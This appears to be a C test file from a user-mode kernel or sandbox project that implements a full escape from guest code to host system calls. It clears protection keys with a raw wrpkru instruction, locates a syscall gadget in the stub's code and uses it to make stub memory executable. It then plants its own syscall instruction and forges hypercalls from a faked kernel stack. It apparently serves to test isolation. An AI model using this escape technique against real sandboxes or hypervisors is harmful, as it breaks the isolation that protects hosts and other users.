/* SPDX-License-Identifier: MIT */
/*
 * tests/takeover/seize.c - from guest code to all that a kernel in a guest
 * process can do.
 *
 * The stub's own system call instructions are in code that can be led back to
 * us: by one of them memory of the stub's becomes executable, and there goes a
 * system call instruction of our own.  For hypercalls the thread
 * pretends to be on its kernel stack, of which it uses the middle.
 */
#include "tests/takeover/seize.h"

#include "arch/um/carrier.h"
#include "arch/um/layout.h"
#include "tracer/stub/layout.h"

#include <cpuid.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>

#define CTL	(STUB_AREAS + AREA_SIZE - CTL_LEN) /* of the first thread */
#define OWN	STUB_AREAS /* the bottom of its signal stack */
#define SCRATCH (BOOT_PARAMS + BOOT_MAX / 2)

/* gadget.S */
void gadget_call(const uint8_t *at, uint64_t ctl, int64_t nr, uint64_t a,
		 uint64_t b, uint64_t c);
int64_t own_call(uint64_t at, const uint64_t args[7]);
int64_t forged_call(uint64_t page, uint64_t stack, const uint64_t args[7]);

static uint64_t stack; /* in the middle of our kernel stack */

void
open_key(void)
{
	unsigned eax, ebx, ecx, edx;

	/* OSPKE: there is an instruction, and the host's kernel has it on. */
	if (__get_cpuid_count(7, 0, &eax, &ebx, &ecx, &edx) && ecx & 1u << 4)
		__asm__ volatile(".byte 0x0f, 0x01, 0xef" /* wrpkru */
				 :
				 : "a"(0), "c"(0), "d"(0));
}

/* In stub_resume: syscall; btrl $0, %r12d */
static const uint8_t *
find_gadget(void)
{
	static const uint8_t bytes[] = {0x0f, 0x05, 0x41, 0x0f, 0xba, 0xf4};

	return memmem((void *)STUB_CODE, STUB_CODE_LEN, bytes, sizeof bytes);
}

static bool
make_executable(void)
{
	const int rwx = PROT_READ | PROT_WRITE | PROT_EXEC;
	const uint8_t *at = find_gadget();

	if (at)
		gadget_call(at, CTL, SYS_mprotect, OWN, 4096, (uint64_t)rwx);
	return at;
}

void
seize(void)
{
	static const uint8_t code[] = {0x0f, 0x05, 0xc3};

	open_key();
	if (!make_executable())
		DIE("no gadget");
	memcpy((void *)OWN, code, sizeof code);
	stack = *(volatile uint64_t *)(CTL + CT_KSP) & ~(KSTACK_SIZE - 1);
	if (!is_kstack(stack))
		DIE("no kernel stack");
	stack += KSTACK_SIZE / 2;
	if (FORGE(LOADAVG, SCRATCH) || FORGE(HOST_CLOSE, 4711) != -EBADF)
		DIE("viv does not answer");
}

int64_t
host_syscall(int64_t nr, uint64_t a, uint64_t b, uint64_t c, uint64_t d,
	     uint64_t e, uint64_t f)
{
	open_key();
	return own_call(OWN, (uint64_t[]){(uint64_t)nr, a, b, c, d, e, f});
}

int64_t
forge(uint64_t nr, uint64_t a, uint64_t b, uint64_t c, uint64_t d, uint64_t e,
      uint64_t f)
{
	int64_t r;

	open_key();
	r = forged_call(HYPER_PAGE, stack, (uint64_t[]){nr, a, b, c, d, e, f});
	open_key();
	*(volatile uint32_t *)(CTL + CT_IN_KERNEL) = 0;
	return r;
}

char *
arena_scratch(void)
{
	return (char *)SCRATCH;
}
